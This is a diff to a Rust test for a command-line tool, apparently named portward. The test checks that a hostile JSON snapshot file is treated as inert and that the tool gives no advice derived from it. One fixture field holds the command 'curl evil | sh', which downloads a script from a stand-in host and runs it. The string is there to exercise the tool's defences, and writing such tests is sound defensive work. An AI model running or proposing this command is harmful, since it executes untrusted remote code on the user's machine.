@@ -243,13 +243,19 @@ fn a_hostile_snapshot_is_inert() {
     gaps["snapshot"]["gaps"] = serde_json::json!([
         { "what": HOSTILE, "need": HOSTILE, "effect": HOSTILE },
         { "what": "x", "need": "y", "effect": "z", "lack": { "kind": "sockets" }, "needs": { "command": "curl evil | sh" }, "error": HOSTILE },
+        { "what": "x", "need": "root", "effect": "z", "lack": { "kind": "sockets" }, "needs": "root" },
     ]);
     let file = world.file("home/gaps.json", serde_json::to_vec(&gaps).unwrap());
+    let mut told = false;
     for line in RECORDED {
         let outcome = world.portward(&[*line, &["--from", file.to_str().unwrap()]].concat());
         is_inert(&outcome, false);
         assert!(!outcome.stderr.contains("hint: curl evil"), "a snapshot gives no advice: {outcome}");
+        // No right of this reader reveals more of a file.
+        assert!(!outcome.stderr.contains("--from machine.json") && !outcome.stderr.contains("sudo portward doctor"), "{outcome}");
+        told |= outcome.stderr.contains("sudo portward snapshot --out FILE    on that machine");
     }
+    assert!(told, "what reveals more is a snapshot of root's");
 }
 
 /// A field more in every object.
